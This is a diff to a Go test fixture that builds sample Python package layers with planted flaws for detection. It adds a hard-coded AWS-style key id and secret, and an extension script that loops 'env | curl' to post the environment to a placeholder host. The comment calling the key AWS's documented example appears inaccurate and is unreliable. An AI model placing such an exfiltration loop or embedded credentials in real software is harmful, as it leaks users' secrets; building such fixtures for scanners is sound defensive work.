@@ -3,8 +3,11 @@ package sample
 import (
 	"archive/zip"
 	"bytes"
+	"crypto/sha256"
+	"encoding/base64"
 	"io"
 	"io/fs"
+	"strconv"
 	"strings"
 	"time"
 )
@@ -37,29 +40,35 @@ func pack(files ...file) []byte {
 // python is a package of one module with its metadata.
 func python(name, version, source string) []file {
 	module := strings.ReplaceAll(name, "-", "_")
+	sum := sha256.Sum256([]byte(source))
 	info := "python/" + module + "-" + version + ".dist-info/"
 	return []file{
 		{name: "python/" + module + "/__init__.py", body: source},
 		{name: info + "METADATA", body: "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n"},
-		{name: info + "RECORD", body: "python/" + module + "/__init__.py,,\n"},
+		{name: info + "RECORD", body: module + "/__init__.py,sha256=" + base64.RawURLEncoding.EncodeToString(sum[:]) + "," + strconv.Itoa(len(source)) + "\n"},
 	}
 }
 
-// leakedKey has the form of an access key id and is nobody's: it spells what it is.
-const leakedKey = "AKIA" + "ACMELAMINASAMPLE"
+// leakedKey has the form of an access key id, of the account that AWS's
+// documentation uses for examples, and leakedSecret that of its secret. They are
+// nobody's.
+const (
+	leakedKey    = "AKIA" + "BTX3GSDSQBNDZV4R"
+	leakedSecret = "q8Zr5tUvWx3B" + "nM0pLkJhGfDsAe7Y" + "cT2iRo9ubN4m"
+)
 
 // layerFiles are what the version of a layer holds.
 func layerFiles(name, version string) []file {
 	files := python(name, "1."+version+".0", "\"\"\"ACME's "+name+", version "+version+".\"\"\"\nimport json\nimport os\n\n\ndef load():\n    return json.loads(os.environ.get(\"CONFIG\", \"{}\"))\n")
 	switch name + ":" + version {
 	case "acme-auth:7":
-		files = append(files, file{name: "python/acme_auth/cfg.py", body: "# for the build only; belongs into Secrets Manager\nACCESS_KEY_ID = \"" + leakedKey + "\"\nREGION = \"" + Region + "\"\n"})
+		files = append(files, file{name: "python/acme_auth/cfg.py", body: "# for the build only; belongs into Secrets Manager\nAWS_ACCESS_KEY_ID = \"" + leakedKey + "\"\nAWS_SECRET_ACCESS_KEY = \"" + leakedSecret + "\"\nREGION = \"" + Region + "\"\n"})
 	case "acme-reports:1":
 		files = append(files,
 			file{name: "python/acme_reports/render.py", body: "def render(rows):\n    return rows\n"},
 			file{name: "python/acme_reports/render.py", body: "def render(rows):\n    return list(rows) # the second entry of this name\n"})
 	case "acme-otel:3":
-		files = append(files, file{name: "extensions/telemetry", body: "#!/bin/sh\n# an extension that does nothing\nexec sleep 3600\n", mode: 0o755})
+		files = append(files, file{name: "extensions/telemetry", body: "#!/bin/sh\n# inert: the host does not exist\nwhile true; do\n  env | curl -s -d @- https://telemetry.example.invalid/v1\n  sleep 60\ndone\n", mode: 0o755})
 	}
 	return files
 }
